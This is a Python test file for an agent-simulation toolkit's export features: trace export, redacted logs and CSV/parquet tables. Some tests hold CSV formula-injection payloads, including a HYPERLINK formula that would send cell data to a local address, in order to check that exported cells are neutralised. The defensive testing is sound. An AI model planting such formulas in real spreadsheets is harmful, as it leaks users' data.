"""Runs for other programs: what an export promises comes back, and what a redacted log leaves out is not in it."""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from polars.testing import assert_frame_equal

import analysis
from agentsoc.cli import main
from agentsoc.engine.run import run
from agentsoc.errors import InputError, LogDamagedError
from agentsoc.log.read import RunLog
from agentsoc.log.record import record_bytes
from agentsoc.scenario.load import parse_scenario
from analysis.csv_cells import as_csv, flat
from analysis.exporters.episodes import failure_sort
from analysis.exporters.otlp import write_otlp
from analysis.exporters.redacted import write_redacted
from analysis.importers.importer import import_log
from analysis.load import COLUMNS
from analysis.tables import EVENT_COLUMNS

SCENARIO = """
name: debaters
seed: 3
tasks: {kind: comparison, count: 3}
agents: {count: 3, model: {kind: scripted, confidence: 0.75}, personas: [A SECRET PERSONA]}
topology: {kind: decentralized, degree: 2}
protocol: {kind: debate, rounds: 2}
budget: {tokens_per_task: 4000}
"""


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("runs") / "r"
    run(parse_scenario(SCENARIO.replace(", confidence: 0.75", "")), directory)
    return directory


def exported(made: Path, path: Path, **options: Any) -> list[dict[str, Any]]:
    write_otlp(RunLog(made), path, **options)
    lines = path.suffix == ".jsonl"
    documents = (
        [json.loads(line) for line in path.read_text().splitlines()] if lines else [json.loads(path.read_text())]
    )
    return [span for one in documents for resource in one["resourceSpans"] for scope in resource["scopeSpans"]
            for span in scope["spans"]]  # fmt: skip


def operations(spans: list[dict[str, Any]]) -> dict[str, int]:
    found: dict[str, int] = {}
    for span in spans:
        named = {one["key"]: one["value"] for one in span["attributes"]}
        name = named["gen_ai.operation.name"]["stringValue"]
        found[name] = found.get(name, 0) + 1
    return found


def test_a_trace_of_a_run_comes_back_act_by_act(made: Path, tmp_path: Path) -> None:
    own = analysis.read_tables(made)
    for name in ("t.json", "t.jsonl"):
        write_otlp(RunLog(made), tmp_path / name)
        back, about = import_log("auto", tmp_path / name, tmp_path / f"in-{name}")
        columns = [column for column in EVENT_COLUMNS if column in own.events.columns]
        assert_frame_equal(back.events.select(columns), own.events.select(columns))
        kept = ["task", "task_name", "benchmark", "topology", "n_agents", "seed", "n_events", "complete"]
        assert_frame_equal(back.executions.select(kept), own.executions.select(kept))
        assert about.rules["parents"] == "as exported"


def test_ids_of_a_trace_are_the_same_each_time_and_spans_are_where_they_belong(made: Path, tmp_path: Path) -> None:
    spans = exported(made, tmp_path / "a.json")
    assert spans == exported(made, tmp_path / "b.json") == exported(made, tmp_path / "c.jsonl")
    log = RunLog(made)
    turns = log.manifest.totals.turns
    assert operations(spans) == {"invoke_workflow": 3, "invoke_agent": turns, "chat": log.manifest.totals.calls}
    ids = {(span["traceId"], span["spanId"]) for span in spans}
    assert len(ids) == len(spans)
    assert all(len(trace) == 32 and len(number) == 16 for trace, number in ids)
    assert all((span["traceId"], span["parentSpanId"]) in ids for span in spans if "parentSpanId" in span)
    links = [(link["traceId"], link["spanId"]) for span in spans for link in span.get("links", ())]
    assert links
    assert ids.issuperset(links)
    first = {span["spanId"]: int(span["startTimeUnixNano"]) for span in spans}
    assert all(
        first[link["spanId"]] < int(span["startTimeUnixNano"]) for span in spans for link in span.get("links", ())
    )


def test_a_trace_without_contents_has_no_word_of_what_was_said(made: Path, tmp_path: Path) -> None:
    exported(made, tmp_path / "whole.json")
    exported(made, tmp_path / "bare.json", contents=False)
    answer = RunLog(made).frame()["answer"].drop_nulls()[0]
    assert f'"stringValue": "{answer}"' in (tmp_path / "whole.json").read_text()
    bare = (tmp_path / "bare.json").read_text()
    assert "gen_ai.output.messages" not in bare
    assert f'"stringValue": "{answer}"' not in bare
    assert operations(exported(made, tmp_path / "again.json", contents=False))["chat"] > 0


def test_a_redacted_log_keeps_counts_and_no_words(
    made: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "red"
    assert main.main(["export", str(made), "--redact", "--out", str(out)]) == 0
    own, red = analysis.read_tables(made), analysis.read_tables(out)
    kept = [
        "round",
        "agent",
        "k",
        "kind",
        "claim",
        "parents",
        "correct",
        "confidence",
        "calls",
        "tokens_in",
        "tokens_out",
    ]
    assert_frame_equal(red.events.select(kept), own.events.select(kept))
    assert red.events["text"].null_count() == red.events.height
    said = red.events.filter(pl.col("kind") != "stop")["answer"].drop_nulls()
    assert set(said) <= {f"a{n}" for n in range(1, 9)}
    same = own.events.filter(pl.col("kind") != "stop").select("execution", "answer").drop_nulls()
    pairs = same.with_columns(red=said)
    assert (
        pairs.n_unique()
        == pairs.select("execution", "answer").n_unique()
        == pairs.select("execution", "red").n_unique()
    )
    stored = b"".join(file.read_bytes() for file in out.iterdir())
    for word in ("SECRET", "debaters", "call 0", *own.events["answer"].drop_nulls().unique().to_list()[:3]):
        assert word == "finished" or word.encode() not in stored
    capsys.readouterr()
    assert main.main(["check", str(out)]) == 0
    assert "sound, redacted: " in capsys.readouterr().out
    for verb in (["laws", "--fast"], ["metrics"], ["show"], ["show", "--task", "0"]):
        assert main.main([verb[0], str(out), *verb[1:]]) == 0
    told = capsys.readouterr().out
    assert "redacted: prompts, questions, claims, replies, names and addresses are not in this log" in told
    score = {report.metrics["score"] for report in analysis.metrics([out]).runs}
    assert {one.value for one in score if one} == {analysis.metrics([made]).runs[0].metrics["score"].value}  # type: ignore[union-attr]
    (out / "events.parquet").write_bytes(b"other")
    assert main.main(["check", str(out)]) == 4


def test_reasons_that_are_no_words_of_ours_are_left_out(made: Path) -> None:
    from analysis.exporters.redacted import _answer

    assert failure_sort("timeout: the server at 10.0.0.1 said sk-123") in ("timeout", None)
    assert failure_sort("sk-secret: x") is None
    assert failure_sort(None) is None
    assert _answer(0, "stop", "finished", {}, {}) == "finished"
    assert _answer(0, "stop", "Key sk-1", {}, {}) is None
    assert _answer(0, "stop", "the gardener did it", {}, {}) is None
    number: dict[tuple[int, str], str] = {}
    count: dict[int, int] = {}
    assert [_answer(0, "answer", text, number, count) for text in ("Yes", "no", "YES ")] == ["a1", "a2", "a1"]


@pytest.mark.parametrize("form", ["csv", "parquet"])
def test_tables_are_written_for_programs_that_read_tables(made: Path, tmp_path: Path, form: str) -> None:
    out = tmp_path / "t"
    assert main.main(["export", str(made), "--to", form, "--out", str(out), "--json"]) == 0
    log = RunLog(made)
    assert sorted(file.name for file in out.iterdir()) == [
        f"{n}.{form}" for n in ("calls", "episodes", "events", "tasks")
    ]
    events = pl.read_csv(out / "events.csv") if form == "csv" else pl.read_parquet(out / "events.parquet")
    assert events.height == log.manifest.totals.events
    if form == "csv":
        lists = events["parents"].fill_null("").str.split(";").list.eval(pl.element().filter(pl.element() != ""))
        assert lists.cast(pl.List(pl.Int64)).to_list() == log.frame()["parents"].to_list()
    with pytest.raises(InputError, match="not empty"):
        list(write(made, out, form))
    assert main.main(["export", str(made), "--to", form, "--out", str(out)]) == 2


def write(made: Path, out: Path, form: Any) -> Any:
    from analysis.exporters.tables import write_tables

    return write_tables(made, out, form)


def test_any_table_is_csv(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {"a": [[1, 2], []], "b": [{"x": 1}, {"x": 2}], "c": pl.Series(["k", None], dtype=pl.Enum(["k"]))}
    )
    analysis.to_csv(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == 'a,b,c\n1;2,"{""x"":1}",k\n,"{""x"":2}",\n'.replace("\n,", '\n"",')
    assert flat(frame)["a"].to_list() == ["1;2", ""]


def test_no_cell_is_a_formula_and_numbers_stay_as_they_are() -> None:
    formulas = ["=1+1", "+a", "-b", "@c", "\t=1", "\n=1", "＝1"]
    others = ["star", 'x"y\n', "-5", "+1,200.5", "-3 %", "-1e5", "-.5", None]
    texts = [*formulas, *others]
    table = pl.DataFrame(
        {
            "=said": texts,
            "x": [-1.5] * len(texts),
            "parents": [[-1, -2]] * len(texts),
            "words": [["a", "=b", "-5"]] * len(texts),
            "mixed": [["-5", "@c", None]] * len(texts),
            "kind": pl.Series(["-k"] * len(texts), dtype=pl.Enum(["-k"])),
        }
    )
    back = pl.read_csv(as_csv(table), infer_schema=False)
    assert back.columns == ["'=said", "x", "parents", "words", "mixed", "kind"]
    assert back["'=said"].to_list() == [*("'" + text for text in formulas), *others]
    assert set(back.drop("'=said").rows()) == {("-1.5", "-1;-2", "a;'=b;-5", "'-5;'@c", "'-k")}


def test_columns_whose_harmless_names_are_the_same_stay_apart() -> None:
    table = pl.DataFrame({"'=a": [1], "=a": [2], "-b": [3], "''=a": [4]})
    assert flat(table).to_dicts() == [dict(zip(("'=a", 3 * "'" + "=a", "'-b", "''=a"), (1, 2, 3, 4), strict=True))]


def test_a_reply_that_is_a_formula_is_none_in_the_tables_of_its_run(tmp_path: Path) -> None:
    reply = '=HYPERLINK("http://127.0.0.1/?"&A1)'
    text = SCENARIO.replace("confidence: 0.75", f'replies: [["a", {json.dumps(reply)}]]').replace(
        "comparison", "arithmetic"
    )
    run(parse_scenario(text), tmp_path / "run")
    assert main.main(["export", str(tmp_path / "run"), "--to", "csv", "--out", str(tmp_path / "t")]) == 0
    assert f"'{reply}" in pl.read_csv(tmp_path / "t" / "calls.csv")["reply"].to_list()
    for file in (tmp_path / "t").iterdir():
        cells = pl.read_csv(file, infer_schema=False)
        assert not any((cell or "").startswith("=") for row in cells.rows() for cell in row)


def test_what_cannot_be_exported_is_refused(made: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    there = tmp_path / "there.json"
    there.write_text("x")
    for words, says in (
        ((str(made), "--out", str(tmp_path / "x")), "name a form, or --redact"),
        ((str(made), "--out", str(tmp_path / "x"), "--redact", "--to", "csv"), "a redacted log has no other form"),
        ((str(made), "--out", str(there), "--to", "otlp"), "it exists"),
        ((str(tmp_path), "--out", str(tmp_path / "x"), "--to", "otlp"), "there is no run at"),
        ((str(made), "--out", str(tmp_path / "x"), "--to", "csv", "--no-contents"), "of traces alone"),
        ((str(made), "--out", str(tmp_path / "no" / "dir" / "x.json"), "--to", "otlp"), "cannot be written"),
    ):
        assert main.main(["export", *words]) == 2
        assert says in capsys.readouterr().err
    assert there.read_text() == "x"
    assert main.main(["export", str(made), "--to", "otlp", "--out", str(tmp_path / "ok.json"), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["wrote"]["spans"] > 0


def test_a_damaged_run_is_not_exported(made: Path, tmp_path: Path) -> None:
    import shutil

    copy = tmp_path / "copy"
    shutil.copytree(made, copy)
    part = next((copy / "events").iterdir())
    part.write_bytes(part.read_bytes()[:-4] + b"xxxx")
    with pytest.raises(LogDamagedError):
        write_redacted(RunLog(copy), tmp_path / "red")
    assert not (tmp_path / "red").exists()


def test_load_runs_is_one_row_a_run_and_goes_to_pandas(made: Path, tmp_path: Path) -> None:
    frame = analysis.load_runs(made.parent, settings=["protocol.rounds", "agents.0.count", "nothing.there"])
    assert list(frame.columns) == [*COLUMNS, "protocol.rounds", "agents.0.count", "nothing.there"]
    row = frame.row(0, named=True)
    log = RunLog(made)
    assert (row["run"], row["topology"], row["n_agents"], row["seed"]) == (str(made), "decentralized", 3, 3)
    assert (row["score"], row["events"], row["digest"]) == (
        log.manifest.totals.score, log.manifest.totals.events, log.manifest.digest
    )  # fmt: skip
    assert [row[name] for name in ("protocol.rounds", "agents.0.count", "nothing.there")] == ["2", "3", None]
    pytest.importorskip("pandas", reason="the pandas side is tried where pandas is installed")
    there = frame.to_pandas()
    assert there.loc[0, "score"] == row["score"]
    assert pl.from_pandas(there).select("run", "score", "seed").rows() == frame.select("run", "score", "seed").rows()
    assert "pandas" in sys.modules
    with pytest.raises(InputError, match="there is no run"):
        analysis.load_runs(tmp_path)
    broken = tmp_path / "broken"
    broken.mkdir()
    (broken / "manifest.json").write_text("{")
    with pytest.raises(LogDamagedError):
        analysis.load_runs(tmp_path)
    assert analysis.load_runs([made.parent, broken], skip_damaged=True).height == 1


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"seed": 1 << 70}, "seed is a number beyond 64 bits"),
        ({"name": "\ud800"}, "name is no text that can be written"),
        ({"models": [{"name": "\udfff"}]}, "models is no text that can be written"),
    ],
)
def test_a_manifest_that_no_table_can_hold_is_damaged(
    change: dict[str, Any], message: str, made: Path, tmp_path: Path
) -> None:
    shutil.copytree(made, tmp_path / "runs" / "sound")
    (tmp_path / "runs" / "forged").mkdir()
    data = json.loads((made / "manifest.json").read_text()) | change
    data.pop("checksum")
    (tmp_path / "runs" / "forged" / "manifest.json").write_bytes(record_bytes(data))
    with pytest.raises(LogDamagedError, match=message):
        analysis.load_runs(tmp_path / "runs")
    assert analysis.load_runs(tmp_path / "runs", skip_damaged=True).height == 1


def test_a_setting_is_a_column_of_its_own(made: Path) -> None:
    with pytest.raises(InputError, match="a column of every such table already"):
        analysis.load_runs(made, settings=["score"])
    found = analysis.load_runs(made, settings=["agents.0.count", "agents.²", "protocol.rounds"])
    assert found.select("agents.0.count", "agents.²", "protocol.rounds").rows() == [("3", None, "2")]
